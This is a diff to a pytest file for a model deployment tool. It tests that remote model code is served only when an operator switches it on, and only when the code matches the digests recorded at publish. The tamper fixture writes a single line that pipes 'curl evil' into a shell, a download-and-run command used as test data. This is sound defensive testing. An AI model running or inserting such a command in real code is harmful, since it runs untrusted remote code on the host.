@@ -133,17 +133,69 @@ def _vllm_args(objects: list[dict]) -> list[str]:
     return container["args"]
 
 
-def test_a_version_that_carries_its_model_code_is_served_with_trust_remote_code(published, tmp_path, capfd):
-    """ChatGLM3's config maps its classes to code in the repository (auto_map); vLLM refuses such
-    a model without --trust-remote-code, so deploy turns it on from the version itself."""
-    settings, values = published
-    helm_path()
+def _fetch_args(objects: list[dict]) -> list[str]:
+    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
+    return vllm["spec"]["template"]["spec"]["initContainers"][0]["args"]
+
+
+GLM_CONFIG = {"model_type": "chatglm", "auto_map": {
+    "AutoConfig": "configuration_chatglm.ChatGLMConfig", "AutoModelForCausalLM": "modeling_chatglm.ChatGLMForConditionalGeneration"}}
+
+
+def _publish_glm(settings, tmp_path, *, record: bool = True, tamper: bool = False) -> None:
+    """models/legal-assistant/glm: ChatGLM3-like (auto_map + its code file), with publish's record of the code."""
+    from shared.store.model_code import code_files
+
     src = tmp_path / "src-glm"
     src.mkdir()
-    (src / "config.json").write_text(json.dumps({"model_type": "chatglm", "auto_map": {
-        "AutoConfig": "configuration_chatglm.ChatGLMConfig", "AutoModelForCausalLM": "modeling_chatglm.ChatGLMForConditionalGeneration"}}))
+    (src / "config.json").write_text(json.dumps(GLM_CONFIG))
+    (src / "modeling_chatglm.py").write_text("class ChatGLMForConditionalGeneration: pass\n")
+    recorded = code_files(src)
+    if tamper:  # the store now holds other code than the code finetune ran
+        (src / "modeling_chatglm.py").write_text("import os; os.system('curl evil | sh')\n")
     commit_dir(src, open_location(f"{settings.models_uri('legal-assistant')}/glm", settings), stage="publish", inputs={},
-               started_at=now_iso())
+               started_at=now_iso(), extra={"remote_code": recorded} if record else {})
+
+
+def test_the_versions_own_config_never_turns_remote_code_on(published, tmp_path, capfd):
+    """issue 24 item 2: before, deploy set vllm.trustRemoteCode=true because the stored config had an auto_map."""
+    settings, values = published
+    helm_path()
+    _publish_glm(settings, tmp_path)
+    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]) == 2
+    err = capfd.readouterr().err.strip().splitlines()
+    assert err[-1].startswith("deploy: error: version glm needs its repository's own code")
+    assert "--trust-remote-code" in err[-1] and "vllm.trustRemoteCode: true" in err[-1], err
+
+
+@pytest.mark.parametrize("switch", ["flag", "values"])
+def test_the_operators_switch_serves_the_recorded_code(published, tmp_path, capfd, switch):
+    settings, values = published
+    helm_path()
+    _publish_glm(settings, tmp_path)
+    argv = ["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]
+    if switch == "flag":
+        argv.append("--trust-remote-code")
+    else:
+        on = tmp_path / "trust.yaml"
+        on.write_text(yaml.safe_dump({"vllm": {"trustRemoteCode": True}}))
+        argv += ["-f", str(on)]
+    objects = _rendered(capfd, argv)
+    assert "--trust-remote-code" in _vllm_args(objects)
+    # The init container checks the code files against the version's record again, in the pod.
+    assert _fetch_args(objects)[-1] == "--trust-remote-code"
     assert "--trust-remote-code" not in _vllm_args(_rendered(capfd, ["--release", "a", "-f", str(values), "--dry-run"]))
-    args = _vllm_args(_rendered(capfd, ["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]))
-    assert "--trust-remote-code" in args
+
+
+@pytest.mark.parametrize(("record", "tamper", "needle"), [
+    pytest.param(True, True, "modeling_chatglm.py: sha256 .* differs from the .* recorded; refused", id="code-changed"),
+    pytest.param(False, False, "modeling_chatglm.py: .* records no remote-code digests", id="no-record"),
+])
+def test_code_files_the_record_does_not_allow_are_refused(published, tmp_path, capfd, record, tamper, needle):
+    import re
+
+    settings, values = published
+    _publish_glm(settings, tmp_path, record=record, tamper=tamper)
+    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm", "--trust-remote-code"]) == 2
+    err = capfd.readouterr().err.strip().splitlines()
+    assert err[-1].startswith("deploy: error: ") and re.search(needle, err[-1]), err
